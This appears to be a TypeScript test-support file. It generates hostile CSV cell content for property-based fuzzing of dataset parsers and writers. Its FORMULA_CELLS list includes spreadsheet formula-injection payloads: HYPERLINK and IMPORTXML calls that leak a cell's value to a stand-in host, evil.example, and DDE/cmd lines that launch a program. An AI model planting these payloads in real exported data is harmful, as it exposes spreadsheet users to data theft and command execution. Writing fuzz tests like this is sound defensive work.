// fast-check arbitraries for hostile dataset content: formula-injection cells, quoting games,
// unicode confusables and invisible characters, huge fields, control bytes.
import fc from 'fast-check';

/** Cells a spreadsheet would run, or that smuggle a formula past a naive check. */
export const FORMULA_CELLS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

/** Look-alikes and invisible characters: Cyrillic а/е/о, fullwidth, RTL override, zero-width, BOM. */
export const CONFUSABLE_PIECES = ['а', 'е', 'о', 'ѕ', 'Ａ', '＝', '\u202e', '\u200b', '\u200d', '\ufeff', '\u00a0', 'ﬁ', 'Ⅰ', '\u0301', '𝐁'];

const quotingPieces = ['"', '""', '"""', ',', '\n', '\r\n', '\r', "'", '`', '\\', '{', '}', '${x}', ';', '\u0000', '\u001a'];

/** One hostile cell: formulas, quoting, confusables, control bytes, or plain text mixed with them. */
export const hostileCell: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULA_CELLS),
  fc.array(fc.oneof(fc.constantFrom(...quotingPieces, ...CONFUSABLE_PIECES), fc.string({ maxLength: 8 })), { maxLength: 12 }).map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
  // Deep quoting: a quote doubled many times over.
  fc.integer({ min: 1, max: 2000 }).map((depth) => `${'"'.repeat(depth)}x${'"'.repeat(depth)}`),
);

/** A huge field: between 10 kB and 500 kB of one repeated piece. */
export const hugeCell: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('a', '"', ',', 'а', '\n', '=1+'), fc.integer({ min: 10_000, max: 500_000 }))
  .map(([piece, length]) => piece.repeat(Math.ceil(length / piece.length)).slice(0, length));

/** Text that a real CSV writer would have to quote, written as a quoted field. */
export function quoteCsv(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}
